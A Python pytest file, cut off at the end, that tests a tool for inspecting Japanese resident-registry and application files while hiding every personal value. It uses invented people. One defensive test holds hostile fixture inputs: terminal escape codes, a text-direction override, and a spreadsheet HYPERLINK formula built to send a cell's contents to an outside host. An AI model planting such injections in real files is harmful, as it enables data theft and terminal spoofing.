"""What inspect says of a file: useful facts, and never a person's value."""

from __future__ import annotations

import csv
import io
import re
import sys
from collections.abc import Callable, Iterable, Sequence
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from recruitlib import cli
from recruitlib.base.errors import FormError, ParameterError
from recruitlib.base.header_words import is_forbidden
from recruitlib.base.profiles import Profile, read_profile
from recruitlib.base.tables import read_table
from recruitlib.base.workbooks import read_workbook
from recruitlib.inspection import layouts
from recruitlib.inspection.captions import find_captions, fold_captions, name_sort
from recruitlib.inspection.column_facts import name_date_form, name_postal_form
from recruitlib.inspection.report import (
    Inspection,
    clean_line,
    inspect_file,
    read_profiles,
    write_draft,
)
from tests.conftest import ROOT, WARD

PROFILES = read_profiles(ROOT / "params/profiles")[0]
# Columns whose cells tell who somebody is.
PERSONAL = re.compile(
    "氏|名|カナ|ｶﾅ|フリガナ|セイ|メイ|住所|町|番地|方書|宛名|世帯|回答ID|番号|ｺｰﾄﾞ|生年月日|電話|入力者|再鑑者"
)
VENDOR = [
    "住民ｺｰﾄﾞ", "世帯ｺｰﾄﾞ", "履歴連番", "氏名ｶﾅ", "氏名", "性別", "生年月日", "現存区分", "国籍区分",
    "異動日", "郵便番号", "町名", "番地", "方書", "個人番号",
]  # fmt: skip
NAMES = ("髙橋　太郎", "渡邉　花子", "﨑山　次郎", "高梨　カナ", "番場　一")
KANA = ("ﾀｶﾊｼ ﾀﾛｳ", "ﾜﾀﾅﾍﾞ ﾊﾅｺ", "ｻｷﾔﾏ ｼﾞﾛｳ", "ﾀｶﾅｼ ｶﾅ", "ﾊﾞﾝﾊﾞ ﾊｼﾞﾒ")


def list_vendor_rows(count: int = 60) -> list[list[str]]:
    """Make invented people as a pre-standard vendor writes them."""
    return [
        [
            f"{20_031_000 + place * 7:08d}", f"{7_700 + place:08d}", "1", KANA[place % 5],
            NAMES[place % 5], "12"[place % 2], f"4{18 + place % 4:02d}{1 + place % 12:02d}{1 + place % 28:02d}",
            "113134"[place % 6], "112"[place % 3], f"5{2 + place % 5:02d}0401", f"16000{10 + place % 40}",
            f"西新宿{'一二三四'[place % 4]}丁目", f"{1 + place}番地{1 + place % 9}",
            f"ｺｰﾎﾟ北{100 + place}号室" if place % 3 else "", f"{345_678_000_000 + place * 11}",
        ]
        for place in range(count)
    ]  # fmt: skip


def write_text(path: Path, rows: Iterable[Sequence[str]], encoding: str = "utf-8") -> Path:
    path.write_text("".join(",".join(row) + "\r\n" for row in rows), encoding=encoding, newline="")
    return path


def inspect(path: Path, drafting: bool = False, sheet: str | None = None) -> Inspection:
    return inspect_file(path, PROFILES, drafting=drafting, sheet=sheet)


def join(found: Inspection) -> str:
    return "\n".join([*found.lines, found.draft])


def list_values(rows: Sequence[Sequence[str]], headers: Sequence[str]) -> set[str]:
    """List the cells of three and more characters that tell who somebody is."""
    return {
        cell.strip()
        for row in rows
        for header, cell in zip(headers, row, strict=False)
        if PERSONAL.search(header) and len(cell.strip()) >= 3
    }


def assert_hides(text: str, values: set[str]) -> None:
    assert len(values) > 5
    assert [value for value in values if value in text] == []


def read_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize(
    ("name", "profile", "facts"),
    [
        ("registry.csv", "registry_standard", (
            "見出し: 1行目、122列", "DO「個人番号」、DP「住民票コード」", "M「住民種別」: 1＝日本人（japanese）",
            "BO「住所_郵便番号」: 全角7桁", "B「宛名番号」: 10文字", "← latest: flag", "読めない行: なし",
        )),
        ("protections.csv", "protections_standard", (
            "見出し: 1行目、8列", "F「支援措置区分」: ", "＝併せて支援を求める者", "C「生年月日」: 西暦（年-月-日）",
        )),
        ("applications_form.csv", "form_logo", (
            "先頭の印（BOM）によりUTF-8", "見出しの並び: 様式と同じです。", "D「処理状況」: 受付＝received",
            "C「送信日時」: 日時",
        )),
    ],
)  # fmt: skip
def test_a_file_of_the_invented_ward_is_known_and_none_of_its_people_is_shown(
    ward_project: Path, name: str, profile: str, facts: tuple[str, ...]
) -> None:
    path = ward_project / WARD / name
    headers, *rows = read_rows(path)
    found = inspect(path)
    text = join(found)
    assert found.known
    assert found.draft == ""
    assert [line for line in found.lines if "← この様式で読めます" in line][0].startswith(
        f"  {profile}: 知っている見出し {len(headers)}、知らない見出し 0、足りない必須の見出し 0"
    )
    assert f"行: {len(rows):,}行（見出しより下。" in text
    assert f"行の幅: {len(headers)}列 {len(rows):,}行" in text
    for fact in facts:
        assert fact in text
    assert_hides(text, list_values(rows, headers))


def test_codes_are_counted_as_an_independent_count_has_them(ward_project: Path) -> None:
    path = ward_project / WARD / "registry.csv"
    headers, *rows = read_rows(path)
    at = headers.index("住民状態")
    counts = {code: sum(row[at] == code for row in rows) for code in ("1", "2", "3", "9")}
    people = len({row[headers.index("宛名番号")] for row in rows})
    text = join(inspect(path))
    assert (
        f"N「住民状態」: 1＝住民（resident） {counts['1']:,}行、2＝転出（moved_out） {counts['2']:,}行、"
        f"3＝死亡（dead） {counts['3']:,}行、9＝消除（removed） {counts['9']:,}行"
    ) in text
    assert f"最新フラグが1の行: {people:,}人のうち、最新が二つ以上 0人、ない 0人" in text


def test_the_counter_workbook_is_known_and_none_of_its_people_is_shown(ward_project: Path) -> None:
    path = ward_project / WARD / "applications_counter.xlsx"
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [["" if cell is None else str(cell) for cell in row] for row in sheet.values]
    head = next(place for place, row in enumerate(cells) if "整理番号" in row)
    found = inspect(path)
    text = join(found)
    assert found.known
    assert "種類: 表計算ブック（.xlsx）" in text
    assert f"題の行: {head}行" in text
    assert "counter_workbook: 知っている見出し 17、知らない見出し 0" in text
    assert "C「受付方法」: 窓口＝counter" in text
    assert_hides(text, list_values(cells[head + 1 :], cells[head]))


@pytest.mark.parametrize(
    "name",
    ["registry.csv", "protections.csv", "applications_form.csv", "applications_counter.xlsx"],
)
def test_a_draft_asked_for_reads_a_known_file_too(
    ward_project: Path, tmp_path: Path, name: str
) -> None:
    path = ward_project / WARD / name
    write_draft(tmp_path / "draft.yaml", inspect(path, drafting=True).draft)
    read = read_workbook if path.suffix == ".xlsx" else read_table
    source = read(path, read_profile(tmp_path / "draft.yaml"))
    assert source.rows_read > 5
    assert source.quarantine["reason"].tolist() == []


def test_an_unknown_vendor_file_gets_a_draft_that_reads_it(tmp_path: Path) -> None:
    rows = list_vendor_rows()
    path = write_text(tmp_path / "vendor.csv", [VENDOR, *rows], "cp932")
    found = inspect(path)
    text = join(found)
    assert not found.known
    for fact in (
        "文字コード: CP932", "区切り: コンマ", "行の幅: 15列 60行", "A「住民ｺｰﾄﾞ」→addressee_id",
        "G「生年月日」: 元号7桁 60", "K「郵便番号」: 7桁 60", "A「住民ｺｰﾄﾞ」: 8文字 60（先頭が0 0）",
        "B「世帯ｺｰﾄﾞ」: 8文字 60（先頭が0 60）", "H「現存区分」: 1 30行、3 20行、4 10行",
        "読んではいけない列: O「個人番号」", "← latest: highest",
    ):  # fmt: skip
        assert fact in text
    assert_hides(text, list_values(rows, VENDOR))

    draft = tmp_path / "draft.yaml"
    write_draft(draft, found.draft)
    profile = read_profile(draft)
    source = read_table(path, profile)
    assert (source.rows_read, len(source.table), source.dropped) == (60, 60, ["性別", "個人番号"])
    assert source.table["full_name"].tolist() == [row[4] for row in rows]
    assert source.table["birth_text"].tolist() == [row[6] for row in rows]
    # What a code means is not guessed: 3 is 転出 at one maker and 死亡 at another.
    assert dict(profile.codes["status"]) == dict.fromkeys("134", "意味を記入")
    assert profile.encodings == ("cp932",)
    assert profile.forms["birth_text"] == "[1-5][0-9]{6}"
    assert profile.forms["addressee_id"] == "[0-9]{8}"
    assert profile.latest == "highest"


def test_a_draft_keeps_a_damaged_row_from_being_read_as_a_person(tmp_path: Path) -> None:
    rows = list_vendor_rows(1_200)
    rows[700] = [*rows[700][:3], rows[700][4], rows[700][3], *rows[700][5:]]
    rows[700][6] = "平成20年頃"
    path = write_text(tmp_path / "vendor.csv", [VENDOR, *rows], "cp932")
    write_draft(tmp_path / "draft.yaml", inspect(path).draft)
    source = read_table(path, read_profile(tmp_path / "draft.yaml"))
    assert source.rows_read == 1_200
    assert source.quarantine["source_row"].tolist() == [702]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "cp932", "utf-8"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_encoding_and_delimiter_are_found(tmp_path: Path, encoding: str, delimiter: str) -> None:
    rows = list_vendor_rows(40)
    path = tmp_path / "vendor.txt"
    lines = [delimiter.join(row) for row in [VENDOR, *rows]]
    path.write_text("\r\n".join(lines) + "\r\n", encoding=encoding, newline="")
    found = inspect(path)
    text = join(found)
    shown = {"utf-16": "UTF-16", "cp932": "CP932"}.get(encoding, "UTF-8")
    assert f"文字コード: {shown}" in text
    assert f"区切り: { {',': 'コンマ', ';': 'セミコロン'}.get(delimiter, 'タブ') }" in text
    assert "行の幅: 15列 40行" in text
    assert_hides(text, list_values(rows, VENDOR))
    write_draft(tmp_path / "draft.yaml", found.draft)
    assert len(read_table(path, read_profile(tmp_path / "draft.yaml")).table) == 40


@pytest.mark.parametrize("count", [1, 2, 3, 60])
def test_nothing_of_a_file_without_headers_is_shown(tmp_path: Path, count: int) -> None:
    rows = list_vendor_rows(count)
    path = write_text(tmp_path / "headless.csv", rows, "cp932")
    text = join(inspect(path))
    assert "見出し: 見つかりません" in text
    assert f"行: {count}行" in text
    # Not even a code: nobody knows what its column holds.
    assert "符号ごとの行数" not in text
    assert_hides(text, list_values(rows, VENDOR))


def test_twelve_digits_in_every_cell_are_named_as_a_possible_my_number(tmp_path: Path) -> None:
    path = write_text(tmp_path / "headless.csv", list_vendor_rows(), "cp932")
    assert "12桁の数字だけの列: O列（個人番号でないか確かめてください）" in join(inspect(path))


@pytest.mark.parametrize(
    "row",
    [
        ["タカナシ　カナコ", "西新宿２丁目８番地", "平成20年4月2日"],
        ["高梨　カナ", "氏家　前", "090-1234-5678"],
        ["アコードビル北口", "フラグランス新宿", "四谷一丁目２番地"],
        ["生年月日不詳", "年月日不詳", "渡邉　花子"],
    ],
)
def test_a_person_whose_values_hold_the_words_of_headers_is_no_header(row: list[str]) -> None:
    grid = fold_captions([row, ["山田　太郎", "若松町１番２号", "昭和63年1月7日"]])
    assert find_captions(grid, set()) is None


def test_damage_is_reported_by_row_and_no_row_is_lost(ward_project: Path, tmp_path: Path) -> None:
    source = ward_project / WARD / "registry.csv"
    lines = source.read_text(encoding="utf-8").splitlines()
    headers = lines[0].split(",")
    state, name = headers.index("住民状態"), headers.index("氏名")
    lines[10] += ",余り"  # too wide
    lines[20] = lines[20].rsplit(",", 1)[0]  # too narrow
    lines[30] = lines[30].replace(",", ',"', 1)  # a quote that never closes
    cells = lines[40].split(",")
    cells[state] = cells[name]  # a name where a code should be
    lines[40] = ",".join(cells)
    path = tmp_path / "damaged.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    text = join(inspect(path))
    assert f"行: {len(lines) - 1:,}行" in text
    assert "読めない行: 4行" in text
    assert "列数が見出しと違います: 11、21行目" in text
    assert "引用符の位置が不正です: 31行目" in text
    assert "「住民状態」が符号表にない符号です: 41行目" in text
    assert "表にない符号 1行（41行目）" in text
    assert f"行の幅: 122列 {len(lines) - 4:,}行" in text
    assert "123列 1行" in text and "121列 1行" in text and "引用符が不正 1行" in text
    headers_and_rows = [line.split(",") for line in lines]
    assert_hides(text, list_values(headers_and_rows[1:], headers))


def test_two_latest_records_are_counted_by_each_rule(tmp_path: Path) -> None:
    headers = ["宛名番号", "履歴番号", "最新フラグ", "氏名", "住民状態", "異動日"]
    rows = [
        [
            f"{10_000_000 + place // 2:08d}",
            str(place % 2 + 1),
            str(place % 2),
            "番場　一",
            "1",
            "5060401",
        ]
        for place in range(40)
    ]
    rows[0][2] = "1"  # the first person has two latest records by the flag
    rows[3][2] = "0"  # the second has none
    text = join(inspect(write_text(tmp_path / "history.csv", [headers, *rows])))
    assert "一人一行: 20人のうち、最新が二つ以上 20人、ない 0人" in text
    assert "最新フラグが1の行: 20人のうち、最新が二つ以上 1人、ない 1人" in text
    assert "履歴番号が最大の行: 20人のうち、最新が二つ以上 0人、ない 0人 ← latest: highest" in text


def test_a_changed_form_shows_the_difference_of_its_headers(
    ward_project: Path, tmp_path: Path
) -> None:
    source = (ward_project / WARD / "applications_form.csv").read_text(encoding="utf-8-sig")
    path = tmp_path / "form.csv"
    changed = source.replace("対象者の住所", "対象者のお住まいの住所", 1)
    path.write_text(changed.replace("添付ファイル", "ﾋﾐﾂのことば", 1), encoding="utf-8")
    found = inspect(path)
    text = join(found)
    assert found.known
    assert "なくなった見出し: 対象者の住所、添付ファイル" in text
    assert "様式にない見出し: O「対象者のお住まいの住所」、S（見出し7文字、表示しません）" in text
    assert "足りない必須の見出し 1（対象者の住所）" in text
    assert "ﾋﾐﾂ" not in text


def test_an_option_for_each_choice_is_counted_as_one_column(tmp_path: Path) -> None:
    headers = [
        "レコード番号", "作成日時", "ステータス", "対象者の氏名", "対象者の生年月日", "対象者の住所",
        "申出者区分[本人]", "申出者区分[法定代理人]", "申出内容[情報提供を希望しない]",
    ]  # fmt: skip
    rows = [
        [str(place), "2026-05-01 10:00", "完了", "番場　一", "2008-04-02", "西新宿1-2-3",
         "1" if place % 4 else "", "" if place % 4 else "1", "1"]
        for place in range(1, 13)
    ]  # fmt: skip
    text = join(inspect(write_text(tmp_path / "kintone.csv", [headers, *rows])))
    assert "applicant_relation: 本人＝self 9行、法定代理人＝guardian 3行" in text
    assert "読めない行: なし" in text


def test_a_value_in_a_column_of_codes_is_counted_and_not_shown(tmp_path: Path) -> None:
    headers = ["宛名番号", "履歴番号", "支援措置区分", "削除フラグ", "生年月日"]
    rows = [[f"{10_000_000 + place}", "1", "1", "0", "2008-04-02"] for place in range(12)]
    rows[3][2], rows[7][2] = "番場花子", "7"
    text = join(inspect(write_text(tmp_path / "list.csv", [headers, *rows])))
    assert "C「支援措置区分」: 1＝配偶者暴力等 10行、表にない符号 2行（5、9行目）" in text
    assert "番場" not in text


def test_codes_of_an_unknown_layout_are_shown_only_where_rows_share_them(tmp_path: Path) -> None:
    rows = list_vendor_rows()
    rows[5][7], rows[6][7], rows[7][8] = "7", "髙橋太", "XQ9"
    text = join(inspect(write_text(tmp_path / "vendor.csv", [VENDOR, *rows], "cp932")))
    line = next(line for line in text.splitlines() if "H「現存区分」" in line and "行" in line)
    assert line.endswith("表示しない値 2行")
    assert "7 1行" not in text and "XQ9" not in text and "髙橋太" not in text


def test_hostile_headers_and_cells_do_not_reach_the_terminal(tmp_path: Path) -> None:
    headers = [
        "宛名番号", "\x1b[31m氏名\x1b]0;x\x07", '=HYPERLINK("http://x/?"&A2;"氏名")', "住所\u202e番地",
        "生年月日", "電話番号\x00x"[:4],
    ]  # fmt: skip
    rows = [["12345678", "番場　一", "@SUM(1)", "西新宿", "2008-04-02", "x" * 1_000_000]] * 2
    path = tmp_path / "hostile.csv"
    written = io.StringIO(newline="")
    csv.writer(written).writerows([headers, *rows])
    path.write_text(written.getvalue(), encoding="utf-8", newline="")
    found = inspect(path)
    text = join(found)
    assert not [sign for sign in text if sign < " " and sign != "\n"]
    assert "\u202e" not in text and "HYPERLINK" not in text and "xxxx" not in text
    assert max(map(len, found.lines)) <= 401
    assert "行: 2行" in text


def test_a_line_is_freed_of_control_signs_and_cut() -> None:
    assert clean_line("A\x1b[2J\u202eB\r\n") == "A[2JB"
    assert len(clean_line("あ" * 5_000)) == 401


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"", "ファイルが空です"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01", "文字でないデータ"),
        ("ひとつの文章で、区切りがありません。\nもう一行。\n".encode(), "表ではありません"),
        ("宛名番号,氏名\n1,髙橋\n".encode() + b"2,\x81\x20\n", "27バイト目"),
        (b"%PDF-1.7\n%abc\n1 0 obj\n<<>>\nendobj\n", "PDF"),
        (b"PK\x03\x04broken", "開けません"),
        (b"\xd0\xcf\x11\xe0" + b"\x00" * 100, "パスワード付き"),
    ],
)
def test_what_is_no_table_is_refused(tmp_path: Path, content: bytes, told: str) -> None:
    path = tmp_path / "thing"
    path.write_bytes(content)
    with pytest.raises(FormError, match=told):
        inspect(path)


def test_a_sheet_that_goes_by_a_persons_name_is_not_named(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    for title in ("番場花子様", "髙橋太郎様"):
        book.create_sheet(title).append(["整理番号", "受付日", "氏名", "生年月日", "住所"])
    path = tmp_path / "two.xlsx"
    book.save(path)
    with pytest.raises(
        FormError, match="ほかのシートに値があります（値のあるシート: 2枚目"
    ) as stop:
        inspect(path)
    assert "番場" not in str(stop.value) and "髙橋" not in str(stop.value)
    text = join(inspect(path, sheet="番場花子様"))
    assert "番場" not in text and "行: 0行" in text
    # The same sheet is too large: its name is in no message either.
    book["髙橋太郎様"].cell(1_000_000, 1).number_format = "@"
    book.save(path)
    with pytest.raises(FormError, match="3枚目のシートの範囲が大きすぎます") as stop:
        inspect(path)
    assert "髙橋" not in str(stop.value)


def test_damage_that_a_spreadsheet_did_is_reported_by_row(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["受付簿"])
    sheet.append(["整理番号", "受付日", "受付方法", "氏名", "生年月日", "住所", "処理状況"])
    sheet.append(["A001", "2026-05-01", "窓口", "番場　一", 39540, "西新宿2-8-1", "受付"])
    sheet.append(["A002", "2026-05-02", "郵送", "髙橋　太郎", "平成20年4月2日", None, "受付"])
    sheet["F4"] = datetime(2026, 8, 1)
    sheet.append(["A003", "2026-05-02", "郵送", "=B2&C2", "H20.4.2", "若松町1-1", "受付"])
    path = tmp_path / "book.xlsx"
    book.save(path)
    text = join(inspect(path))
    assert "題の行: 1行" in text and "見出し: 2行目、7列" in text
    assert re.search("F列「住所」が日付や時刻に変わっています.*: 4行目", text)
    assert re.search("D列「氏名」に計算されていない数式があります.*: 5行目", text)
    assert "E「生年月日」: 元号の書き方 2、5桁の通し日数 1" in text
    assert "39540" not in text and "髙橋" not in text and "若松町" not in text


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_header_of_two_rows_is_found_and_its_draft_reads_the_file(
    tmp_path: Path, suffix: str
) -> None:
    upper = ["住民コード", "氏名", "", "", "生年月日", "現住所", "", "", "世帯区分"]
    lower = ["", "漢字", "カナ", "旧氏", "", "町名", "番地", "方書", ""]
    rows = [
        [
            f"{20_000_000 + place}",
            NAMES[place % 5],
            KANA[place % 5],
            "",
            "4200402",
            "西新宿",
            "1-2",
            "",
            "1",
        ]
        for place in range(30)
    ]
    path = tmp_path / f"two.{suffix}"
    if suffix == "csv":
        write_text(path, [["住民一覧", *[""] * 8], upper, lower, *rows])
    else:
        book = openpyxl.Workbook()
        assert book.active is not None
        for row in [["住民一覧"], upper, lower, *rows]:
            book.active.append(row)
        book.save(path)
    found = inspect(path)
    text = join(found)
    assert "題の行: 1行" in text and "見出し: 2・3行目の二段、9列" in text
    assert "行: 30行" in text
    assert_hides(text, {cell for row in rows for cell in row if len(cell) >= 8})
    write_draft(tmp_path / "draft.yaml", found.draft)
    profile = read_profile(tmp_path / "draft.yaml")
    source = (read_table if suffix == "csv" else read_workbook)(path, profile)
    assert (source.rows_read, len(source.table)) == (30, 30)
    assert source.table["full_name"].tolist() == [row[1] for row in rows]


def test_a_draft_says_which_headers_it_leaves_out(tmp_path: Path) -> None:
    headers = [*VENDOR, "ひみつ", "摘要"]
    rows = [[*row, "あ", ""] for row in list_vendor_rows()]
    found = inspect(write_text(tmp_path / "vendor.csv", [headers, *rows], "cp932"))
    assert "# P列の見出しは、値かもしれないため書いていません。" in found.draft
    assert "ひみつ" not in join(found)
    assert "P（見出し3文字、表示しません）" in join(found)


def test_a_draft_is_never_written_over_a_file_and_never_without_a_header(tmp_path: Path) -> None:
    path = tmp_path / "draft.yaml"
    path.write_text("x", encoding="utf-8")
    with pytest.raises(ParameterError, match="同じ名前"):
        write_draft(path, "name: draft\n")
    assert path.read_text(encoding="utf-8") == "x"
    with pytest.raises(FormError, match="見出しが見つからない"):
        write_draft(tmp_path / "other.yaml", "")


def test_titles_blank_rows_and_totals_are_counted_apart(tmp_path: Path) -> None:
    empty = [""] * len(VENDOR)
    rows = [["支援措置なし住民一覧", *empty[1:]], empty, VENDOR, *list_vendor_rows(20), empty]
    path = write_text(tmp_path / "vendor.csv", [*rows, ["合計", "20件", *empty[2:]]], "cp932")
    path.write_bytes(path.read_bytes() + b"\x1a")
    found = inspect(path)
    text = join(found)
    assert "題の行: 2行" in text and "見出し: 3行目、15列" in text
    assert "行: 20行（見出しより下。ほかに空の行 1、合計の行 1）" in text
    write_draft(tmp_path / "draft.yaml", found.draft)
    source = read_table(path, read_profile(tmp_path / "draft.yaml"))
    assert (source.rows_read, source.title_rows, source.footer_rows) == (20, 2, 1)


def test_a_column_that_must_not_be_read_is_not_looked_at(tmp_path: Path) -> None:
    rows = list_vendor_rows()
    for row in rows:
        row[14] = "12"  # as a code it would be shown if anybody looked
    text = join(inspect(write_text(tmp_path / "vendor.csv", [VENDOR, *rows], "cp932")))
    assert "O「個人番号」: " not in text
    assert "読んではいけない列: O「個人番号」（中身は見ていません" in text


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
@pytest.mark.parametrize("title", [[], [["住民一覧"]], [["住民一覧（個人番号は除く）"]]])
def test_nothing_that_tells_the_sort_of_a_column_sees_one_that_must_not_be_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str, title: list[list[str]]
) -> None:
    seen: set[str] = set()

    def spy(name: str, look: Callable[..., object]) -> None:
        def listen(*given: object) -> object:
            stack: list[object] = list(given)
            while stack:
                item = stack.pop()
                if isinstance(item, str):
                    seen.add(item)
                elif isinstance(item, list | tuple):
                    stack += item
            return look(*given)

        monkeypatch.setattr(layouts, name, listen)

    for name in ("find_captions", "show_captions", "sample_sort", "weigh_profile"):
        spy(name, getattr(layouts, name))
    rows = list_vendor_rows()
    path = tmp_path / f"vendor.{suffix}"
    if suffix == "csv":
        write_text(path, [*title, VENDOR, *rows], "cp932")
    else:
        book = openpyxl.Workbook()
        assert book.active is not None
        for row in [*title, VENDOR, *rows]:
            book.active.append(row)
        book.save(path)
    text = join(inspect(path))
    assert "読んではいけない列: O「個人番号」（中身は見ていません" in text
    assert "A「住民ｺｰﾄﾞ」→addressee_id" in text
    assert {row[0] for row in rows[:20]} <= seen  # the other columns are looked at
    assert not {row[14] for row in rows} & seen


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_people_above_the_header_are_told_and_titles_are_not(tmp_path: Path, suffix: str) -> None:
    headers = ["宛名番号", "氏名", "生年月日", "支援措置区分", "削除フラグ"]
    rows = [[f"{10_000_000 + at}", "番場　一", "2008-04-02", "1", "0"] for at in range(6)]
    titles = [["抽出日", "2026-04-01", "", "", ""], ["新宿区", "件数", "1698", "", ""]]
    for above, told in ((titles, False), (rows[:2], True)):
        path = tmp_path / f"list.{suffix}"
        written = [*above, headers, *rows[2:]]
        if suffix == "csv":
            write_text(path, written)
        else:
            book = openpyxl.Workbook()
            assert book.active is not None
            for row in written:
                book.active.append(row)
            book.save(path)
        text = join(inspect(path))
        assert ("人の行と思われる行があります" in text) is told
        assert ("人の行と思われる行があります（1、2行目）" in text) is told
        assert "番場" not in text


@pytest.mark.parametrize(
    ("header", "forbidden"),
    [
        ("個人番号", True), ("個人番号（マイナンバー）", True), ("マイナンバー", True), ("住民票ｺｰﾄﾞ", True),
        ("基礎年金番号", True), ("在留カード番号", True), ("マイナンバーカード：氏名", False),
        ("個人履歴番号", False), ("住民コード", False), ("宛名番号", False),
    ],
)  # fmt: skip
def test_forbidden_columns_are_known_by_their_headers(header: str, forbidden: bool) -> None:
    assert is_forbidden(header) is forbidden


@pytest.mark.parametrize(
    ("header", "sort"),
    [
        ("生年月日", "date"), ("異動日", "date"), ("送信日時", "date"), ("住所_郵便番号", "postal"),
        ("宛名番号", "number"), ("世帯ｺｰﾄﾞ", "number"), ("電話番号", "person"), ("氏名カナ", "person"),
        ("方書", "person"), ("続柄コード1", "plain"), ("最新フラグ", "plain"), ("生年月日_元号", "plain"),
        ("住所区分", "person"),
    ],
)  # fmt: skip
def test_headers_say_what_a_column_holds(header: str, sort: str) -> None:
    assert name_sort(header) == sort


@pytest.mark.parametrize(
    ("text", "form"),
    [
        ("2008-04-02", "西暦（年-月-日）"), ("2008/4/2", "西暦（年/月/日）"), ("20080402", "西暦8桁"),
        ("4200402", "元号7桁"), ("420080402", "元号と西暦の9桁"), ("平成20年4月2日", "元号の書き方"),
        ("H20.04.02", "元号の書き方"), ("39540", "5桁の通し日数"), ("２００８年４月２日", "西暦の年月日"),
        ("2008-04-02 10:30", "日時"), ("平成20年頃", "一部が不詳・おおよそ"), ("99999999", "「なし」の印（0や9だけ）"),
        ("", "空"), ("9999-12-31", "「なし」の印（0や9だけ）"), ("番場", "読めない"), ("20080231", "読めない"),
    ],
)  # fmt: skip
def test_date_forms_are_told_apart(text: str, form: str) -> None:
    assert name_date_form(text) == form


@pytest.mark.parametrize(
    ("text", "form"),
    [
        ("1600023", "7桁"), ("１６００２３１", "全角7桁"), ("160-0023", "3桁-4桁"), ("１６０－００２３", "全角の3桁-4桁"),
        ("600000", "6桁以下（先頭の0が失われた疑い）"), ("西新宿", "読めない"), (" ", "空"),
    ],
)  # fmt: skip
def test_postal_forms_are_told_apart(text: str, form: str) -> None:
    assert name_postal_form(text) == form


def call(monkeypatch: pytest.MonkeyPatch, *words: str) -> int:
    monkeypatch.setattr(sys, "argv", ["recruitlib", "inspect", *words])
    try:
        cli.main()
    except SystemExit as stop:
        return int(stop.code or 0)
    return 0


def test_the_command_reports_writes_a_draft_and_refuses_what_is_no_table(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(ROOT)
    rows = list_vendor_rows()
    path = write_text(tmp_path / "vendor.csv", [VENDOR, *rows], "cp932")
    assert call(monkeypatch, str(path)) == 0
    shown = capsys.readouterr().out
    assert "様式の下書き" in shown and "holds: registry" in shown
    assert_hides(shown, list_values(rows, VENDOR))
    draft = tmp_path / "draft.yaml"
    assert call(monkeypatch, str(path), "--draft", str(draft)) == 0
    assert "holds: registry" not in capsys.readouterr().out
    assert read_profile(draft).name == "draft"
    # Read by its own draft, the same file is known.
    assert call(monkeypatch, str(path), "--profile", str(draft)) == 0
    assert "draft: 知っている見出し 15、知らない見出し 0" in capsys.readouterr().out
    assert call(monkeypatch, str(path), "--draft", str(draft)) == 10
    prose = tmp_path / "prose.txt"
    prose.write_text("ただの文章です。\n", encoding="utf-8")
    assert call(monkeypatch, str(prose)) == 11
    assert "FormError" in capsys.readouterr().err


def test_a_profile_that_cannot_be_read_stops_nobody(tmp_path: Path) -> None:
    (tmp_path / "broken.yaml").write_text("name: [\n", encoding="utf-8")
    assert read_profiles(tmp_path) == ([], ["broken.yaml"])
    with pytest.raises(ParameterError):
        read_profiles(tmp_path, tmp_path / "broken.yaml")


# A body cell that nothing in the output can hold by chance: each is one of a kind.
_MARK = st.text("ぁぃぅぇぉゕゖ㐂䨺驫麤", min_size=4, max_size=7)
_WRAP = st.sampled_from(
    ["{}", " {} ", "氏名{}", "{}番地", "{}１丁目２番地", "カナ{}", "{}コード", "住所{}", "{}年月日", "0{}", "{}フラグ", "=\"{}\""]
)  # fmt: skip
_HEADERS = st.lists(
    st.one_of(
        st.sampled_from([*VENDOR, *PROFILES[0].known, "", "氏名", "氏名", "その他", "ﾋﾐﾂ"]),
        st.text(max_size=12).filter(lambda text: not re.search('[\r\n",;\t]', text)),
    ),
    min_size=1,
    max_size=12,
)


@settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(headers=_HEADERS, marks=st.lists(_MARK, min_size=12, max_size=48), data=st.data())
def test_no_cell_of_the_body_is_ever_shown(
    tmp_path: Path, headers: list[str], marks: list[str], data: st.DataObject
) -> None:
    cells = [data.draw(_WRAP).format(mark) for mark in marks]
    width = len(headers)
    rows = [cells[at : at + width] for at in range(0, len(cells), width)]
    path = tmp_path / "random.csv"
    encoding = data.draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16"]))
    path.write_text(
        "\n".join(",".join(row) for row in [headers, *rows]) + "\n", encoding=encoding,
        newline="", errors="replace",
    )  # fmt: skip
    try:
        text = join(inspect(path, drafting=True))
    except FormError as stop:
        text = str(stop)
    assert [mark for mark in marks if mark in text] == []


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(places=st.lists(st.integers(0, 14), min_size=2, max_size=15, unique=True),
       count=st.integers(1, 40))  # fmt: skip
def test_no_person_of_a_file_without_headers_is_ever_shown(
    tmp_path: Path, places: list[int], count: int
) -> None:
    rows = [[row[place] for place in places] for row in list_vendor_rows(count)]
    path = write_text(tmp_path / "random.csv", rows)
    try:
        text = join(inspect(path, drafting=True))
    except FormError as stop:
        text = str(stop)
    values = {cell for row in rows for cell in row if len(cell) >= 4}
    assert [value for value in values if value in text] == []


def test_a_draft_is_made_for_every_kind_of_file(tmp_path: Path) -> None:
    kinds: dict[str, tuple[list[str], list[str]]] = {
        "protections": (
            ["住民番号", "氏名", "生年月日", "措置種別", "支援措置開始日", "終了区分"],
            ["20031000", "番場　一", "4200402", "1", "5060401", "0"],
        ),
        "applications": (
            ["申請番号", "申請日時", "処理区分", "ご住所", "お名前", "生年月日", "連絡先電話"],
            [
                "20031000",
